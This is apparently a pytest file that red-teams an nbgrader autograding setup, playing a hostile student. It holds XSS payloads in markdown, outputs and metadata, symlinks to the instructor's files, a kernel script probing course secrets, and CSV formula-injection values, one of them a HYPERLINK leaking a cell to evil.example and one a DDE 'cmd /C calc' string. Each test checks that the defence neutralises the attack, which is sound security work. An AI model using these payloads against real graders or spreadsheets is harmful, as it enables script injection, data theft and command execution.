"""Red team against the nbgrader side, written as a hostile student would.

A student hands in, through nbgrader:
- markup that would run in the instructor's browser: a markdown answer with `<script>`,
  `onerror=`, `javascript:` links, a MathJax `\\href`, and a notebook whose outputs are HTML,
  JavaScript, SVG, Markdown and a forged PNG (`HOSTILE_*`); the formgrader's notebook view and the
  feedback must show none of it active (`active_markup`);
- `BEGIN HIDDEN TESTS` in an answer, which made nbgrader's `generate_feedback` fail for them;
- symbolic links: a notebook that links to the instructor's source notebook, "notes" that link to
  the gradebook, a linked folder; nbgrader copies what they point to (and reads a linked
  notebook), so autograde must refuse them before its copy is used;
- a student id that a spreadsheet runs as a formula, in nbgrader's own `export --to grades.csv`;
- a notebook that looks for the course's files from its kernel: the sandbox binds only the
  release's public files, never the student's autograded folder as nbgrader copied it.

The end-to-end run of these notebooks through the real `nbgrader autograde`, `generate_feedback`
and `export` is in tests/test_nbgrader.py (one run for the whole class); here each defence is
checked on its own, quickly.
"""
from __future__ import annotations

import csv
import os
import sys
import uuid
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbgrader.api import Gradebook
from nbgrader.coursedir import CourseDirectory
from nbgrader.preprocessors import ClearHiddenTests
from traitlets.config import Config

from assignment.notebook import ASSIGNMENT, SOURCE_NOTEBOOK_NAME, build_notebook
from assignment.release import NBGRADER_CONFIG
from autograder.handed_in import cell_by_id
from autograder.isolation import sandbox
from autograder.isolation.limits import Limits
from autograder.nbgrader_autograde import NotebookRun
from autograder.nbgrader_cells import ClearHiddenTestsInTestCells
from autograder.nbgrader_export import SpreadsheetSafeCsvExport
from autograder.nbgrader_html import safe_outputs
from autograder.nbgrader_plan import links_in_submission
from autograder.settings import Settings

MARK = f"PWNED{uuid.uuid4().hex[:8]}"  # in every payload: where it is found active, an attack got through
HOSTILE_ANSWER = f"""My answer, with some extras.
<script>alert('{MARK}')</script> <img src=x onerror="alert('{MARK}')"> <svg onload="alert('{MARK}')"></svg>
[my notes](javascript:alert('{MARK}')) <a href="javascript:alert('{MARK}')">more</a>
<iframe src="javascript:alert('{MARK}')"></iframe> <details open ontoggle="alert('{MARK}')">x</details>
<form action="javascript:alert('{MARK}')"><button>go</button></form> <base href="javascript:alert('{MARK}')//">
<meta http-equiv="refresh" content="0;url=javascript:alert('{MARK}')"> $\\href{{javascript:alert('{MARK}')}}{{see}}$
![pic](javascript:alert('{MARK}')) <a href="data:text/html,<script>alert('{MARK}')</script>">data</a>
"""
HOSTILE_OUTPUTS = f"""
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>alert('{MARK}')</script><img src=x onerror=\\"alert('{MARK}')\\">"))
display(Javascript("alert('{MARK}')"))
display(Markdown("[x](javascript:alert('{MARK}'))"))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"alert('{MARK}')\\"/>"}}, raw=True)
display({{"image/png": "AAAA\\" onerror=\\"alert('{MARK}')", "text/plain": "a picture"}}, raw=True)
display({{"text/latex": "$\\\\href{{javascript:alert('{MARK}')}}{{x}}$", "text/plain": "latex"}}, raw=True)
print("<script>alert('{MARK}')</script>")
"""
HOSTILE_RAW_CELL = f"<script>alert('{MARK}')</script><img src=x onerror=\"alert('{MARK}')\">"
HIDDEN_MARKER_ANSWER = "My notes on the tests:\n### BEGIN HIDDEN TESTS\nI wonder what the grader checks."
HIDDEN_MARKER_CODE = "# BEGIN HIDDEN TESTS (my own, not the grader's)\n"
ANSWER_CELL = "q_closed_form_kl"


def hostile_html_notebook(stubs: NotebookNode) -> NotebookNode:
    """The release notebook with a hostile answer, a cell whose outputs are hostile, and a raw cell."""
    nb = nbformat.from_dict(stubs)
    cell_by_id(nb, ANSWER_CELL).source = HOSTILE_ANSWER
    nb.cells.insert(2, nbformat.v4.new_code_cell(HOSTILE_OUTPUTS.strip()))
    nb.cells.insert(3, nbformat.v4.new_raw_cell(HOSTILE_RAW_CELL))
    nb.cells.insert(4, nbformat.v4.new_markdown_cell(HOSTILE_ANSWER))
    nb.metadata["title"] = f"</title><script>alert('{MARK}')</script>"
    return nb


def hidden_marker_notebook(reference: NotebookNode) -> NotebookNode:
    """A correct notebook whose answer and solution cell mention the hidden-test marker."""
    nb = nbformat.from_dict(reference)
    cell_by_id(nb, ANSWER_CELL).source = HIDDEN_MARKER_ANSWER
    kl = cell_by_id(nb, "gaussian_kl")
    kl.source = HIDDEN_MARKER_CODE + kl.source
    return nb


def executed_outputs() -> list[NotebookNode]:
    """What the hostile output cell displays, as nbformat outputs (as a kernel would send them)."""
    new = nbformat.v4.new_output
    return [
        new("display_data", data={"text/html": f"<script>alert('{MARK}')</script>", "text/plain": "html"}),
        new("display_data", data={"application/javascript": f"alert('{MARK}')", "text/plain": "js"}),
        new("display_data", data={"text/markdown": f"[x](javascript:alert('{MARK}'))"}),
        new("display_data", data={"image/svg+xml": f"<svg onload=\"alert('{MARK}')\"/>"}),
        new("display_data", data={"image/png": f"AAAA\" onerror=\"alert('{MARK}')", "text/plain": "png"}),
        new("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "png"},
            metadata={"image/png": {"width": f"1 onerror=alert('{MARK}')", "height": 20}}),
        new("display_data", data={"text/latex": f"$\\href{{javascript:alert('{MARK}')}}{{x}}$"}),
        new("execute_result", data={"text/plain": "42"}, execution_count=3),
        new("stream", name="stdout", text=f"<script>alert('{MARK}')</script>"),
    ]


class _ActiveMarkup(HTMLParser):
    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "content", "srcdoc"}
    NOT_TYPESET = {"pre", "code", "script", "style", "textarea"}  # MathJax's skipTags

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.NOT_TYPESET:
            self.open.append(tag)
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") and MARK.lower() in value:
                self.found.append(f"<{tag} {name}=...>")
            if name in self.URL_ATTRIBUTES and (value.startswith(("javascript:", "vbscript:", "data:text/html"))
                                                 or "url=javascript:" in value):
                self.found.append(f"<{tag} {name}={value[:40]}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in self.open:
            del self.open[len(self.open) - 1 - self.open[::-1].index(tag):]

    def handle_data(self, data: str) -> None:
        if "script" in self.open and MARK in data:
            self.found.append(f"<script>{data.strip()[:60]}")
        if not self.open and "\\href{javascript" in data.replace(" ", ""):
            self.found.append("MathJax link: " + data[data.find("\\href"):][:60])


def active_markup(page: str) -> list[str]:
    """The hostile payloads that would run in a browser showing `page` (none, once made safe)."""
    parser = _ActiveMarkup()
    parser.feed(page)
    return parser.found


def course_config() -> Config:
    """The nbgrader configuration that `vae-assignment release` writes into the course."""
    loaded = Config()
    exec(NBGRADER_CONFIG, {"get_config": lambda: loaded})  # noqa: S102 - our own release's file
    return loaded


def formgrader_view(notebook: Path, config: Config | None = None) -> str:
    """The page the formgrader shows for an autograded notebook: its HTMLExporter, built as nbgrader's
    FormgradeExtension builds it (the course's config, the `formgrade` template), with its resources."""
    from nbgrader.server_extensions.formgrader import handlers

    config = Config(config if config is not None else course_config())
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": ASSIGNMENT, "notebook_id": ASSIGNMENT, "submission_id": "x", "index": 0,
                 "total": 1, "base_url": "", "student": "mallory", "last_name": None, "first_name": None,
                 "notebook_path": f"autograded/mallory/{ASSIGNMENT}/{notebook.name}"}
    page, _ = HTMLExporter(config=config).from_filename(str(notebook), resources=resources)
    return page


def test_the_detector_sees_every_payload_unsanitised(tmp_path):
    """Without the course's config, the formgrader runs the student's markup: the check means something."""
    nb = hostile_html_notebook(build_notebook())
    nb.cells[2].outputs = executed_outputs()
    path = tmp_path / SOURCE_NOTEBOOK_NAME
    nbformat.write(nb, path)
    found = active_markup(formgrader_view(path, config=Config()))
    assert len(found) >= 8, found
    assert any(f.startswith("<script>") for f in found) and any("onerror" in f for f in found)
    assert any("javascript:" in f for f in found)


def test_the_formgrader_shows_a_hostile_notebook_with_no_active_markup(tmp_path):
    nb = hostile_html_notebook(build_notebook())
    nb.cells[2].outputs = executed_outputs()  # as if the sandbox had passed them back unfiltered
    path = tmp_path / SOURCE_NOTEBOOK_NAME
    nbformat.write(nb, path)
    page = formgrader_view(path)
    assert active_markup(page) == []
    assert "My answer, with some extras." in page and "42" in page  # still shown, as text
    assert MARK in page  # the payloads are there, inert


def test_the_sandbox_passes_back_only_text_and_images():
    kept = safe_outputs(executed_outputs())
    kinds = [(o.output_type, sorted(o.get("data", {}))) for o in kept]
    assert kinds == [("display_data", ["text/plain"]), ("display_data", ["text/plain"]),
                     ("display_data", ["text/plain"]), ("display_data", ["image/png", "text/plain"]),
                     ("execute_result", ["text/plain"]), ("stream", [])]
    assert kept[3].metadata == {"image/png": {"height": 20}}  # the forged width is gone
    assert all("onerror" not in str(o) for o in kept if o.output_type != "stream")


def test_begin_hidden_tests_in_a_students_cells_does_not_break_feedback():
    nb = hidden_marker_notebook(build_notebook())
    with pytest.raises(RuntimeError):  # nbgrader's own: feedback failed for this student
        ClearHiddenTests().preprocess(nbformat.from_dict(nb), {})
    cleared, _ = ClearHiddenTestsInTestCells().preprocess(nbformat.from_dict(nb), {})
    assert cell_by_id(cleared, ANSWER_CELL).source == HIDDEN_MARKER_ANSWER
    assert cell_by_id(cleared, "gaussian_kl").source.startswith(HIDDEN_MARKER_CODE)
    check = cell_by_id(cleared, "check_gaussian_kl").source
    assert "BEGIN HIDDEN TESTS" not in check and check.startswith("check_gaussian_kl(")


def _course(root: Path) -> CourseDirectory:
    (root / "source" / ASSIGNMENT).mkdir(parents=True)
    (root / "source" / ASSIGNMENT / SOURCE_NOTEBOOK_NAME).write_text("{}")
    (root / "gradebook.db").write_text("")
    for student in ("alice", "bob", "carol", "dave", "erin"):
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / SOURCE_NOTEBOOK_NAME).write_text("{}")
    return CourseDirectory(root=str(root))


def test_symbolic_links_in_a_submission_are_found(tmp_path):
    coursedir = _course(tmp_path)
    submitted = tmp_path / "submitted"
    alice = submitted / "alice" / ASSIGNMENT / SOURCE_NOTEBOOK_NAME
    alice.unlink()
    alice.symlink_to(tmp_path / "source" / ASSIGNMENT / SOURCE_NOTEBOOK_NAME)  # the instructor's notebook
    (submitted / "bob" / ASSIGNMENT / "notes").mkdir()
    (submitted / "bob" / ASSIGNMENT / "notes" / "gradebook.txt").symlink_to(tmp_path / "gradebook.db")
    os.rename(submitted / "carol" / ASSIGNMENT, submitted / "carol" / "elsewhere")
    (submitted / "carol" / ASSIGNMENT).symlink_to(submitted / "erin" / ASSIGNMENT)  # a classmate's folder
    os.rename(submitted / "dave", tmp_path / "dave")
    (submitted / "dave").symlink_to(tmp_path / "dave")

    class Converter:
        pass

    converter = Converter()
    converter.coursedir = coursedir
    found = {student: links_in_submission(converter, student, ASSIGNMENT) for student in
             ("alice", "bob", "carol", "dave", "erin")}
    assert found["alice"] == [alice]
    assert found["bob"] == [submitted / "bob" / ASSIGNMENT / "notes" / "gradebook.txt"]
    assert found["carol"] == [submitted / "carol" / ASSIGNMENT]
    assert found["dave"] == [submitted / "dave"]
    assert found["erin"] == []


def test_nbgraders_csv_export_makes_formula_ids_inert(tmp_path, monkeypatch):
    # A new gradebook runs `alembic`: this environment's, which is not on PATH unless activated.
    monkeypatch.setenv("PATH", os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
    gradebook = Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}")
    gradebook.add_assignment(ASSIGNMENT)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    gradebook.add_student(hostile, first_name="+cmd|' /C calc'!A0", last_name="Smith, Jr.", email="@x")
    gradebook.add_student("bob", first_name="Bob")
    SpreadsheetSafeCsvExport(to=str(tmp_path / "grades.csv")).export(gradebook)
    gradebook.close()
    with (tmp_path / "grades.csv").open(newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name",
                             "email", "raw_score", "late_submission_penalty", "score", "max_score"]
    mallory = next(row for row in rows if "HYPERLINK" in row["student_id"])
    assert mallory["student_id"] == "'" + hostile and mallory["first_name"] == "'+cmd|' /C calc'!A0"
    assert mallory["last_name"] == "Smith, Jr." and mallory["email"] == "'@x"  # a comma stays in its column
    assert mallory["score"] == "0.0" and mallory["max_score"] == "0.0"


ISOLATION = sandbox.detect(Settings.from_environment())
SNOOP = """
import os
for path in {paths!r}:
    try:
        print("LISTED" if os.path.isdir(path) else "READ", path, os.listdir(path) if os.path.isdir(path)
              else open(path).read()[:200])
    except Exception as error:
        print("cannot see", path, type(error).__name__)
print("HERE", sorted(name for name in os.listdir(".") if not name.startswith(("kernel-", "tmp", ".ipython"))))  # not the kernel's
"""


@pytest.mark.slow
@pytest.mark.skipif(not ISOLATION.sandboxed, reason=f"needs bubblewrap ({ISOLATION.reason})")
def test_the_kernel_sees_the_release_files_only(tmp_path):
    course = tmp_path / "course"
    release = course / "release" / ASSIGNMENT
    release.mkdir(parents=True)
    (release / "vae_course.py").write_text("GIVEN = 1\n")
    autograded = course / "autograded" / "mallory" / ASSIGNMENT
    autograded.mkdir(parents=True)
    (autograded / "gradebook_copy.txt").write_text("what nbgrader copied from a link")
    (course / "source" / ASSIGNMENT).mkdir(parents=True)
    (course / "source" / ASSIGNMENT / SOURCE_NOTEBOOK_NAME).write_text("the reference")
    secrets = [autograded / "gradebook_copy.txt", autograded, course / "source" / ASSIGNMENT / SOURCE_NOTEBOOK_NAME,
               course / "autograded", course / "gradebook.db"]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(SNOOP.format(paths=[str(p) for p in secrets]))])
    executed, problem = NotebookRun(nb, release, Limits(), ISOLATION, cell_timeout=60).finish(120)
    assert problem == ""
    printed = "".join(o.get("text", "") for o in executed.cells[0].outputs)
    assert printed.count("cannot see") == len(secrets), printed
    assert "HERE ['vae_course.py']" in printed  # the release's files, copied in; nothing else
